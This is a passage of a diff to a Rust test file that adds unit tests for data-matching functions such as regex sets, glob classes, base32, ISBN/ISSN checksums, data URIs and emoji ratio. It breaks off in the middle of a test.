@@ -517,6 +517,54 @@ fn regex() {
             text: "bad regex should error".to_string(),
             should_error: true,
         },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_REGEX,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![r#"\d+"#.to_string(), r#"^val"#.to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "should match when any of several patterns matches".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_REGEX,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![r#"\d+"#.to_string(), r#"^x"#.to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "should not match when none of several patterns match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_REGEX,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![r#"^val"#.to_string(), r#"\d+++]["#.to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "bad regex in a set should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_REGEX,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "no patterns should error".to_string(),
+            should_error: true,
+        },
     ];
 
     test_utils::run_tests(&test_cases);
@@ -936,3 +984,4786 @@ fn hostname() {
 
     test_utils::run_tests(&test_cases);
 }
+
+#[test]
+fn distinct_chars() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.repeated_chars".to_string(),
+                args: vec!["lt".to_string(), "3".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "repeated chars should have few distinct chars".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.repeated_chars".to_string(),
+                args: vec!["gt".to_string(), "8".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "repeated chars should not have many distinct chars".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.varied_chars".to_string(),
+                args: vec!["gt".to_string(), "8".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "varied chars should have many distinct chars".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.varied_chars".to_string(),
+                args: vec!["eq".to_string(), "12".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "varied chars should have exactly 12 distinct chars".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.varied_chars".to_string(),
+                args: vec!["almost".to_string(), "12".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown operator should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.varied_chars".to_string(),
+                args: vec!["gt".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing threshold should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::distinct_chars, &test_cases);
+}
+
+#[test]
+fn any_format() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_plain_valid".to_string(),
+                args: vec!["uuid".to_string(), "phone".to_string(), "email".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "email should validate among uuid/phone/email".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.uuid_dash".to_string(),
+                args: vec!["phone".to_string(), "email".to_string(), "uuid".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "uuid should validate among phone/email/uuid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.phone_uk".to_string(),
+                args: vec!["uuid".to_string(), "phone".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "phone should validate among uuid/phone without a country hint".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec!["uuid".to_string(), "phone".to_string(), "email".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "plain string should not validate as uuid/phone/email".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.ipv6_address".to_string(),
+                args: vec!["ipv4".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "ipv6 address should not validate as ipv4".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_plain_valid".to_string(),
+                args: vec!["email".to_string(), "not_a_format".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown format should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_plain_valid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "no formats should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::any_format, &test_cases);
+}
+
+#[test]
+fn is_base32() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_unpadded".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "unpadded base32 should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_padded".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "padded base32 should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_padded".to_string(),
+                args: vec!["decode".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "padded base32 should decode".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_non_canonical".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "non-canonical base32 should pass alphabet check".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_non_canonical".to_string(),
+                args: vec!["decode".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-canonical base32 should not decode cleanly".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "out-of-alphabet character should be invalid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base32_padding_block".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "a block made only of padding should be invalid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "base64 should not be valid base32".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::is_base32, &test_cases);
+}
+
+#[test]
+fn sequential_keys() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.sequential_object".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "object with sequential numeric keys should be array-like".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.gapped_object".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "object with a gap in numeric keys should not be array-like".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.credit_card.visa".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "normal object should not be array-like".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "array".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "actual array should not be an array-like object".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::sequential_keys, &test_cases);
+}
+
+#[test]
+fn isbn() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.isbn_13".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid isbn-13".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.isbn_10".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid isbn-10 ending in X".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.isbn_13_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "isbn-13 with bad checksum".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.isbn_10_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "isbn-10 with bad checksum".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.number_as_string".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "generic digit string is not an isbn".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::isbn, &test_cases);
+}
+
+#[test]
+fn issn() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.issn".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid issn".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.issn_x".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid issn with X check digit and space".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.issn_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "issn with bad checksum".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.isbn_13".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "isbn is not an issn".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::issn, &test_cases);
+}
+
+#[test]
+fn glob() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.subdomain_hostname".to_string(),
+                args: vec!["*.example.com".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "subdomain should match *.example.com".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.valid_hostname".to_string(),
+                args: vec!["*.example.com".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "bare domain should not match *.example.com".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.subdomain_hostname".to_string(),
+                args: vec!["*.example.org".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "other domain should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.username".to_string(),
+                args: vec!["user_?".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "single char wildcard should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.username".to_string(),
+                args: vec!["user_??".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "two char wildcard should not match a single char".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.username".to_string(),
+                args: vec!["user_[0-9]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "character class should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.username".to_string(),
+                args: vec!["user_[!0-9]".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "negated character class should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.username".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "missing pattern should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::glob, &test_cases);
+}
+
+#[test]
+fn glob_class_literals() {
+    let data = r#"{
+        "a": "a",
+        "x": "x",
+        "amp": "&",
+        "tilde": "~",
+        "dash": "-",
+        "backslash": "\\",
+        "bracket": "]",
+        "open": "[",
+        "unterminated": "[a&&b"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "amp".to_string(),
+                args: vec!["[a&&b]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "\"&\" is a literal member of [a&&b]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "a".to_string(),
+                args: vec!["[a&&b]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "\"a\" is a member of [a&&b]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "x".to_string(),
+                args: vec!["[a&&b]".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "\"x\" is not a member of [a&&b]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "a".to_string(),
+                args: vec!["[!a]".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "\"a\" should not match [!a]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "x".to_string(),
+                args: vec!["[!a]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "\"x\" should match [!a]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "tilde".to_string(),
+                args: vec!["[a~~b]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "\"~\" is a literal member of [a~~b]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "dash".to_string(),
+                args: vec!["[a--b]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "\"-\" is a literal member of [a--b]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "x".to_string(),
+                args: vec!["[a--b]".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "[a--b] is not a range".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "backslash".to_string(),
+                args: vec!["[a\\]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "backslash is a literal member of [a\\]".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "bracket".to_string(),
+                args: vec!["[]a]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "leading ] is a literal class member".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "bracket".to_string(),
+                args: vec!["[!]a]".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "leading ] is literal in a negated class".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "open".to_string(),
+                args: vec!["[a[b]".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "\"[\" is a literal class member".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "open".to_string(),
+                args: vec!["[ab".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unterminated class is literal text".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "unterminated".to_string(),
+                args: vec!["[a&&b".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "unterminated class matches its raw text".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::glob, &test_cases);
+}
+
+#[test]
+fn whitespace_anomaly() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.double_space".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "double space should be an anomaly".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.double_space".to_string(),
+                args: vec!["double_space".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "double space should be detected when selected".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.double_space".to_string(),
+                args: vec!["tab".to_string(), "trailing_newline".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "double space should be ignored when not selected".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.trailing_newline".to_string(),
+                args: vec!["trailing_newline".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "trailing newline should be detected".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.trailing_newline".to_string(),
+                args: vec!["double_space".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "trailing newline should be ignored when not selected".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "clean string should have no anomalies".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec!["bogus".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown anomaly should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::whitespace_anomaly, &test_cases);
+}
+
+#[test]
+fn mojibake() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.mojibake".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "double-decoded utf-8 should be mojibake".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.mojibake_clean".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "correctly encoded utf-8 should not be mojibake".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec!["alu".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "custom signature should be detected".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::mojibake, &test_cases);
+}
+
+#[test]
+fn data_uri() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.data_uri_base64".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid base64 data uri".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.data_uri_text".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid text data uri with charset param".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.data_uri_bad_base64".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "data uri with invalid base64 payload".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.data_uri_no_comma".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "data uri without a payload separator".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.data_uri_base64_only".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "base64 data uri with the default media type".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.data_uri_base64_media_type".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "bare base64 is a media type, not the encoding marker".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "plain string is not a data uri".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::data_uri, &test_cases);
+}
+
+#[test]
+fn emoji_ratio() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_heavy".to_string(),
+                args: vec!["gt".to_string(), "0.5".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "emoji heavy string should exceed half".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_heavy".to_string(),
+                args: vec!["gt".to_string(), "0.9".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "emoji heavy string still has some text".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_plain".to_string(),
+                args: vec!["gt".to_string(), "0.1".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "plain text should not exceed the threshold".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_plain".to_string(),
+                args: vec!["eq".to_string(), "0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "plain text should have no emoji".to_string(),
